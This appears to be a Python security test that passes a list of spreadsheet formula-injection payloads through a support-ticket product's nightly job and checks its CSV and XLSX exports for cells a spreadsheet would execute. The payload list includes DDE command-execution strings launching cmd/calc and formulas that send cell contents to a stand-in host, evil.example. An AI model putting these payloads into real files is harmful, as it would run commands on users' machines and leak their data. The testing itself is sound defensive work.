"""Texts that spreadsheets would run, taken through a whole night and looked for in all that leaves the product."""

import csv
import io
import json
import os
import re
import zipfile
from datetime import UTC, date, datetime
from pathlib import Path

PAYLOADS = (
    "=1+1", "=cmd|' /C calc'!A0", '=HYPERLINK("http://evil.example/?"&A1,"hier")', "=WEBSERVICE(\"http://evil.example\")",
    "=IMPORTXML(CONCAT(\"http://evil.example/\",A1),\"//a\")", "=DDE(\"cmd\";\"/C calc\";\"1\")", "=MSEXCEL|'\\..\\cmd.exe /c calc'!''",
    "+1+1", "+cmd|' /C calc'!A0", "+SUM(1;1)*cmd|' /C calc'!A0", "-1+1", "-2+3+cmd|' /C calc'!A0", "-(1)", "@SUM(1+1)",
    "@A1", "\t=1+1", "\r=1+1", "\n=1+1", "\t@SUM(1)", "|=1+1", "＝1+1", "＋1+1", "－1+1", "＠SUM(1)", "\0=1+1", "=\t1+1",
    ";=1+1", "gut;=cmd|' /C calc'!A0", "gut; =1+1", "gut;+cmd|' /C calc'!A0", "gut;-cmd|' /C calc'!A0", "gut;@SUM(1)",
    'gut";=1+1', 'gut"";=1+1;"', "gut\n=1+1", "gut\r\n=cmd|' /C calc'!A0", "gut\t=1+1", "gut\n+cmd|' /C calc'!A0",
    '"=1+1"', '","=1+1', "=1+1\";\"=2+2", "%0A=1+1", "\ufeff=1+1", "=ROW(1:1048576)",
)  # fmt: skip
NOW = datetime(2026, 11, 1, 2, 0, tzinfo=UTC)
_MACRO = re.compile(r"[|(!]")


def exported(folder: Path) -> dict[str, int | list[str]]:
    """A night over tickets of payloads; every export and report of it; the cells that a spreadsheet would run."""
    from cxtext.export import KINDS, write_file
    from cxtext.reports import render
    from cxtext.store import open_store, runs

    _night(folder)
    store = open_store(f"sqlite:///{folder / 'cxtext.db'}")
    problems: list[str] = []
    files = cells = 0
    with store.read() as connection:
        shown = runs.current(connection)
        for name, kind in KINDS.items():
            rows = list(kind.rows(connection, shown))
            for form in ("csv", "xlsx"):
                path = folder / f"{name}.{form}"
                write_file(path, kind.columns, rows)
                found, count = (_csv_cells if form == "csv" else _formulas)(path.read_bytes())
                problems += [f"{path.name}: {cell[:80]!r}" for cell in found]
                files, cells = files + 1, cells + count
        for language in ("de", "en"):
            content, _ = render(connection, shown, "weekly", "csv", language=language)
            found, count = _csv_cells(content)
            problems += [f"weekly {language}: {cell[:80]!r}" for cell in found]
            files, cells = files + 1, cells + count
    store.close()
    return {"payloads": len(PAYLOADS), "files": files, "cells": cells, "wrong": len(problems), "examples": problems[:5]}


def _night(folder: Path) -> None:
    """Payloads wherever a source can put one: texts, products, versions, categories, tags, states, columns of its own."""
    import sqlalchemy as sa

    from cxtext.jobs.nightly import Order, run_night
    from cxtext.settings import Settings
    from cxtext.store import open_store
    from cxtext.store import tables as t

    os.environ.setdefault("CXTEXT_SECRET", "a secret of these payloads")
    rows = []
    for number in range(4 * len(PAYLOADS)):
        one = PAYLOADS[number % len(PAYLOADS)]
        rows.append({
            "id": f"{one}{number}", "text": f"{one} Das Paket ist seit Tagen nicht angekommen.", "product": one, "version": one,
            "category": one, "tags": [one, "eilig"], "status": one, "priority": one, "channel": one, "own column": one,
            "csat": number % 5 + 1, "created_at": f"2026-10-{number % 28 + 1:02}", "customer_id": f"k{number % 20}",
        })  # fmt: skip
    (folder / "payloads.jsonl").write_text("".join(json.dumps(row) + "\n" for row in rows), encoding="utf-8")
    store = open_store(f"sqlite:///{folder / 'cxtext.db'}")
    order = Order(sources=[str(folder / "payloads.jsonl")], as_of=date(2026, 10, 31))
    run_night(store, Settings.load(db=store.url, workers=1), order, now=lambda: NOW)
    with store.write() as connection:  # and as the names that people give
        for at, number in enumerate(connection.scalars(sa.select(t.topic.c.id).order_by(t.topic.c.id)).all()):
            connection.execute(
                t.topic.update().where(t.topic.c.id == number).values(label=PAYLOADS[at % len(PAYLOADS)])
            )
    store.close()


def _csv_cells(content: bytes) -> tuple[list[str], int]:
    """Cells that would run, however a spreadsheet cuts the file, and how many cells there are."""
    text = content.decode("utf-8")
    proper = [cell for row in csv.reader(io.StringIO(text, newline="")) for cell in row]
    found = [cell for cell in proper if _runs(cell) and not _number(cell)]
    for mark in ";\t":
        for line in re.split(r"[\r\n]+", text):
            found += [cell for cell in map(_unquoted, line.split(mark)) if _runs(cell) and _surely(cell)]
    return found, len(proper)


def _unquoted(piece: str) -> str:
    """What a spreadsheet takes for the beginning of a cell: quotes around it go, a doubled one inside them stays."""
    cell = piece.lstrip(" ")
    if cell.startswith('"""'):
        return cell[2:]
    return cell[2:] if cell.startswith('""') else cell.removeprefix('"')


def _runs(cell: str) -> bool:
    return cell.lstrip(" ").startswith(("=", "+", "-", "@", "\t", "\r", "＝", "＋", "－", "＠"))


def _surely(cell: str) -> bool:
    """A cut in a wrong place also leaves pieces such as "-0.5,3": those calculate, but run nothing."""
    return cell[:1] in "=@＝＠" or bool(_MACRO.search(cell))


def _number(cell: str) -> bool:
    try:
        float(cell)
    except ValueError:
        return False
    return True


def _formulas(content: bytes) -> tuple[list[str], int]:
    """Formulas and links in a workbook, and how many cells it has."""
    with zipfile.ZipFile(io.BytesIO(content)) as book:
        parts = {name: book.read(name) for name in book.namelist()}
    sheets = b"".join(part for name, part in parts.items() if "/worksheets/" in name)
    marks = re.findall(rb"<f[ >]|<hyperlink|externalLink|ddeLink", b"".join(parts.values()))
    return [mark.decode() for mark in marks], len(re.findall(rb"<c ", sheets))
